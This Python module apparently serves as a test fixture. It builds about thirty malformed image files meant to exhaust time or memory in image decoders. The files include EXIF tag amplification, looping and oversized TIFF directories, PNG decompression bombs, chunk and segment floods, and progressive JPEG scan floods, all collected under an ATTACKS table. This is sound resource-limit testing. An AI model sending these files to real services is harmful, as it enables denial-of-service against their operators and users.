"""Files made to cost time or memory: each function returns the bytes of one."""

from __future__ import annotations

import io
import random
import struct
import zlib
from typing import Any

import numpy as np
from PIL import Image

Saved = dict[str, Any]


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    stream = io.BytesIO()
    image.save(stream, kind, **options)
    return stream.getvalue()


def small(mode: str = "RGB", side: int = 64) -> Image.Image:
    noise = np.random.default_rng(0).integers(0, 256, (side, side, 3), np.uint8)
    return Image.fromarray(noise).convert(mode)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def in_png(*extra: bytes, side: int = 64) -> bytes:
    """A good PNG with chunks after its header."""
    data = saved(small(side=side), "PNG")
    return data[:33] + b"".join(extra) + data[33:]


def in_jpeg(extra: bytes) -> bytes:
    data = saved(small(), "JPEG")
    return data[:2] + extra + data[2:]


def segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def amplified_tags(entries: int, shared: int, kind: int = 5) -> bytes:
    """EXIF data: that many tags that all point at the same bytes."""
    size = {1: 1, 2: 1, 3: 2, 5: 8}[kind]
    start = 8 + 2 + 12 * entries + 4
    table = b"".join(
        struct.pack("<HHII", 40_000 + i % 25_000, kind, shared // size, start)
        for i in range(entries)
    )
    body = random.Random(0).randbytes(shared)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", entries) + table + bytes(4) + body


def exif_jpeg() -> bytes:
    """0.4 MB; Pillow joins the pieces of the EXIF data."""
    tags = amplified_tags(16_000, 200_000)
    pieces = [tags[i : i + 65_000] for i in range(0, len(tags), 65_000)]
    return in_jpeg(b"".join(segment(0xE1, b"Exif\0\0" + piece) for piece in pieces))


def exif_png() -> bytes:
    return in_png(chunk(b"eXIf", amplified_tags(16_000, 200_000)))


def riff(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(
        kind + struct.pack("<I", len(data)) + data + bytes(len(data) % 2) for kind, data in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def in_webp(*extra: tuple[bytes, bytes], flags: int = 0x2C) -> bytes:
    data = saved(small(), "WEBP")
    frame = data[20 : 20 + struct.unpack_from("<I", data, 16)[0]]
    head = bytes([flags, 0, 0, 0]) + (63).to_bytes(3, "little") * 2
    return riff((b"VP8X", head), (b"VP8 ", frame), *extra)


def exif_webp() -> bytes:
    return in_webp((b"EXIF", amplified_tags(16_000, 200_000)))


def tiff(tags: list[tuple[int, int, int, int]], data: bytes) -> bytes:
    """Tags as (tag, type, count, value); the data lies at 8."""
    table = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
    at = 8 + len(data)
    return b"II*\0" + struct.pack("<I", at) + data + struct.pack("<H", len(tags)) + table + bytes(4)


def grey_tags(side: int, size: int) -> list[tuple[int, int, int, int]]:
    values = {256: side, 257: side, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: side, 279: size}
    return [(tag, 4, 1, value) for tag, value in values.items()]


def amplified_tiff() -> bytes:
    data = bytes(200_000)
    shared = [(30_000 + i, 5, 25_000, 8) for i in range(16_000)]
    return tiff(grey_tags(64, 4096) + shared, data)


def needed_tags_amplified_tiff() -> bytes:
    """The same with tags that decoding needs: BitsPerSample and offsets of a million values."""
    data = bytes(400_000)
    tags = [tag for tag in grey_tags(64, 4096) if tag[0] not in (258, 273, 279, 320, 347)]
    return tiff(tags + [(tag, 3, 200_000, 8) for tag in (258, 273, 279, 320, 338, 339)], data)


def looping_tiff() -> bytes:
    data = bytearray(tiff(grey_tags(64, 4096), bytes(4096)))
    data[-4:] = struct.pack("<I", 8 + 4096)
    return bytes(data)


def overlapping_strips_tiff() -> bytes:
    """2,500 strips, all of the same 400 kB: 1 GB to copy."""
    side, count = 10_000, 2_500
    body = zlib.compress(random.Random(1).randbytes(400_000), 1)
    offsets = struct.pack(f"<{count}I", *[8] * count)
    sizes = struct.pack(f"<{count}I", *[len(body)] * count)
    pad = -len(body) % 4
    at = 8 + len(body) + pad
    tags = [tag for tag in grey_tags(side, 1) if tag[0] not in (259, 262, 273, 277, 278, 279, 258)]
    tags += [(258, 4, 1, 8), (259, 4, 1, 8), (262, 4, 1, 1), (277, 4, 1, 1), (278, 4, 1, 4)]
    tags += [(273, 4, count, at), (279, 4, count, at + 4 * count)]
    tags = [tag if tag[0] != 256 else (256, 4, 1, 7_000) for tag in tags]
    return tiff(tags, body + bytes(pad) + offsets + sizes)


def many_directories_tiff(count: int = 100_000) -> bytes:
    first = tiff(grey_tags(64, 4096), bytes(4096))[:-4]
    out = [first]
    at = len(first) + 4
    for _ in range(count):
        out.append(struct.pack("<I", at) + struct.pack("<H", 0))
        at += 6
    return b"".join(out) + bytes(4)


def jpeg_in_tiff_of_many_scans() -> bytes:
    body = progressive_of_many_scans(2_000, 64)
    tags = [tag for tag in grey_tags(4_000, len(body)) if tag[0] not in (258, 259, 262, 277)]
    tags += [(258, 4, 1, 8), (259, 4, 1, 7), (262, 4, 1, 6), (277, 4, 1, 3)]
    return tiff(tags, body)


def gif_of_comments(size: int = 4_000_000) -> bytes:
    data = saved(small("P"), "GIF")
    return data[:781] + b"\x21\xfe" + b"\x01x" * (size // 2) + b"\0" + data[781:]


def gif_of_small_blocks(size: int = 4_000_000) -> bytes:
    data = saved(small("P"), "GIF")
    at = data.index(b"\x2c", 781) + 11
    return data[:at] + b"\x01\0" * (size // 2) + b"\0;"


def gif_of_frames(count: int = 300_000) -> bytes:
    data = saved(small("P"), "GIF")
    frame = b"\x2c" + struct.pack("<4HB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\0"
    return data[:-1] + frame * count + b";"


def png_chunk_flood(count: int = 330_000) -> bytes:
    return in_png(chunk(b"tEXt", b"a\0b") * count)


def png_pixel_chunk_flood(count: int = 330_000) -> bytes:
    return in_png(chunk(b"IDAT", b"") * count)


def png_profile_bomb() -> bytes:
    return in_png(chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(400_000_000), 9)))


def png_text_bombs() -> bytes:
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(1_000_000), 9))
    return in_png(text * 500)


def png_of_animation_chunks() -> bytes:
    control = struct.pack(">5I2H2B", 0, 1, 1, 0, 0, 1, 1, 0, 0)
    frames = (chunk(b"fcTL", control) + chunk(b"fdAT", bytes(4))) * 60_000
    return in_png(chunk(b"acTL", struct.pack(">II", 60_000, 0)), frames)


def jpeg_of_empty_segments(count: int = 1_000_000) -> bytes:
    return in_jpeg(b"\xff\xe1\0\x02" * count)


def jpeg_of_comments(count: int = 400_000) -> bytes:
    return in_jpeg(segment(0xFE, b"spam") * count)


def jpeg_of_fill(size: int = 8_000_000) -> bytes:
    return in_jpeg(b"\xff" * size)


def jpeg_of_garbage(size: int = 8_000_000) -> bytes:
    return in_jpeg(bytes(size))


def progressive_of_many_scans(side: int = 6_000, scans: int = 20_000) -> bytes:
    """Each scan is some bytes, and passes over all coefficients of the picture."""
    data = saved(Image.new("RGB", (side, side)), "JPEG", progressive=True, subsampling=0)
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * scans + b"\xff\xd9"


def bmp_of_runs(width: int = 8_000, height: int = 5_000, size: int = 4_000_000) -> bytes:
    body = b"\x01\x05" * (size // 2)
    palette = bytes(1024)
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(body), 0, 0, 256, 0)
    start = 14 + len(head) + len(palette)
    return b"BM" + struct.pack("<IHHI", start + len(body), 0, 0, start) + head + palette + body


def bmp_of_fewer_runs() -> bytes:
    return bmp_of_runs(size=1_490_000)


def plain_ppm(size: int = 30_000_000) -> bytes:
    return b"P3\n3000 1700\n255\n" + b"1 " * (size // 2)


def less_plain_ppm() -> bytes:
    return b"P3\n1000 900\n255\n" + b"1 " * 2_900_000


def ppm_of_comments() -> bytes:
    return b"P6\n" + b"#\n" * 10_000_000 + b"64 64\n255\n" + bytes(64 * 64 * 3)


def deep_ppm() -> bytes:
    return b"P6\n2600 2600\n1023\n" + bytes(2600 * 2600 * 6)


def webp_of_chunks(count: int = 400_000) -> bytes:
    return in_webp(*[(b"junk", b"")] * count)


def boxes_of_avif(count: int = 400_000) -> bytes:
    data = saved(small(), "AVIF")
    return data[:32] + struct.pack(">I4s", 8, b"free") * count + data[32:]


def jpeg2000_of_tiles() -> bytes:
    """Claims 60,000 tiles of a few pixels."""
    data = bytearray(saved(small(side=256), "JPEG2000"))
    at = data.index(b"\xff\x51")
    struct.pack_into(">8I", data, at + 6, 2_000, 2_000, 0, 0, 8, 8, 0, 0)
    return bytes(data)


def jpeg2000_of_layers() -> bytes:
    data = bytearray(saved(small(side=256), "JPEG2000"))
    at = data.index(b"\xff\x52")
    struct.pack_into(">H", data, at + 6, 65_535)
    return bytes(data)


ATTACKS = {
    make.__name__: make
    for make in (
        exif_jpeg,
        exif_png,
        exif_webp,
        amplified_tiff,
        needed_tags_amplified_tiff,
        looping_tiff,
        overlapping_strips_tiff,
        many_directories_tiff,
        jpeg_in_tiff_of_many_scans,
        gif_of_comments,
        gif_of_small_blocks,
        gif_of_frames,
        png_chunk_flood,
        png_pixel_chunk_flood,
        png_profile_bomb,
        png_text_bombs,
        png_of_animation_chunks,
        jpeg_of_empty_segments,
        jpeg_of_comments,
        jpeg_of_fill,
        jpeg_of_garbage,
        progressive_of_many_scans,
        bmp_of_runs,
        bmp_of_fewer_runs,
        plain_ppm,
        less_plain_ppm,
        ppm_of_comments,
        deep_ppm,
        webp_of_chunks,
        boxes_of_avif,
        jpeg2000_of_tiles,
        jpeg2000_of_layers,
    )
}
